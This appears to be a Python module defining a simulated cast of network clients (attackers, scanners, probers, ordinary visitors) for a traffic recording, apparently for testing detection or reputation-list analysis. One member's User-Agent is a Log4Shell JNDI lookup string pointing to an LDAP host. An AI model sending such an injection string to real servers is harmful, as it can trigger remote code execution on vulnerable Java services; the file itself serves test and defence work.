"""Who appears in the recording: one literal table of addresses, roles, lists and habits."""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from ipaddress import IPv6Address
from random import Random

from . import crowd, hostile
from .client import Client

Habit = Callable[[Client, Random], Awaitable[None]]

COMPROMISED = "compromised-hosts.txt"
LEVELS = "levels.txt"
SCANNERS = "mass_scanner.txt"
OLD = "attackers.txt"

SEED = 23334
"""Makes the same crowd each time; times still differ, since they are real."""


@dataclass(frozen=True)
class Member:
    """One client of the cast."""

    address: str
    """Documentation address (RFC 5737, RFC 3849)."""

    role: str
    """What it is, in one word or two; the same word for the same kind."""

    habit: Habit
    """What it does."""

    begins: float
    """Seconds after the start."""

    agent: str = ""
    """Its User-Agent."""

    lists: tuple[str, ...] = ()
    """The reputation lists that name it, or the network it is in."""

    level: int = 0
    """How many lists `levels.txt` says name it; 0 if that does not name it."""

    def listed_in(self) -> tuple[str, ...]:
        """Every list that names it."""
        return (*self.lists, LEVELS) if self.level else self.lists


CURL = "curl/8.14.1"
REQUESTS = "python-requests/2.32.5"
GO = "Go-http-client/1.1"
FIREFOX = crowd.BROWSERS[2]

LISTED_NETWORK = "2001:db8:bad:1::/64"
"""The network of the listed clients on IPv6; lists name it as a whole."""

NAMED = (
    Member(
        "203.0.113.66", "attacker", hostile.read_accounts_of_the_application, 62, CURL, (COMPROMISED, OLD), 6
    ),
    Member("198.51.100.7", "attacker", hostile.knock_at_the_dev_server, 35, REQUESTS, (OLD,)),
    Member("203.0.113.141", "attacker", hostile.read_files_of_the_dev_server, 90, CURL, (COMPROMISED,), 3),
    Member("198.51.100.171", "attacker", hostile.climb_at_the_wrong_door, 78, CURL),
    Member("203.0.113.199", "attacker", hostile.call_java, 48, "${jndi:ldap://203.0.113.250:1389/a}", (), 2),
    Member(
        "198.51.100.99",
        "scanner",
        hostile.scan_widely,
        8,
        "Mozilla/5.0 zgrab/0.x",
        (COMPROMISED,),
        8,
    ),
    Member("203.0.113.20", "research scanner", hostile.grab_banners, 15, "", (SCANNERS,), 3),
    Member("198.51.100.23", "brute-forcer", hostile.guess_passwords, 20, "", (COMPROMISED,), 5),
    Member("2001:db8:bad:1::5", "prober", hostile.look_at_the_application, 30, GO, (COMPROMISED,)),
    Member("2001:db8:bad:1::2f", "prober", hostile.look_at_the_application, 55, GO, (COMPROMISED,)),
    Member("2001:db8:bad:1:a::9", "prober", hostile.look_at_the_application, 100, GO, (COMPROMISED,)),
    Member("203.0.113.87", "listed visitor", crowd.visit_site, 70, crowd.BROWSERS[4], (), 1),
    Member("192.0.2.5", "health checker", crowd.check_health, 0, "health-check/3.1"),
    Member(
        "198.51.100.200",
        "search engine",
        crowd.crawl,
        5,
        "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://search.example/bot.html)",
    ),
    Member("203.0.113.5", "shared address", crowd.share_an_address, 3, crowd.BROWSERS[6]),
    Member("198.51.100.58", "visitor", crowd.ask_harmlessly, 25, FIREFOX),
    Member("198.51.100.61", "feed reader", crowd.link_sloppily, 40, "ExampleReader/1.4"),
    Member("203.0.113.31", "colleague", crowd.develop, 28, FIREFOX),
    Member("198.51.100.140", "colleague", crowd.log_in_after_a_slip, 44),
)
"""Everybody who is somebody."""


def visitors(chance: Random) -> list[Member]:
    """The crowd: forty-four visitors on IPv4 and sixteen on IPv6, none of them on a list."""
    taken = {member.address for member in NAMED}
    old = [f"{prefix}.{last}" for prefix in ("198.51.100", "203.0.113") for last in range(30, 250)]
    new = [str(_new_address(chance, n)) for n in range(16)]
    addresses = chance.sample([each for each in old if each not in taken], 44) + new
    habits = (crowd.visit_site, crowd.visit_site, crowd.visit_shop, crowd.visit_both)
    return [
        Member(
            address, "visitor", chance.choice(habits), chance.uniform(0, 115), chance.choice(crowd.BROWSERS)
        )
        for address in addresses
    ]


def _new_address(chance: Random, subnet: int) -> IPv6Address:
    """A visitor's address in a network of its own, apart from the server's and from the listed one."""
    return IPv6Address(
        f"2001:db8:{chance.randrange(0x100, 0x200):x}:{subnet:x}::{chance.randrange(2, 0xFFFF):x}"
    )


def cast() -> list[Member]:
    """All members, the same each time."""
    return [*NAMED, *visitors(Random(SEED))]
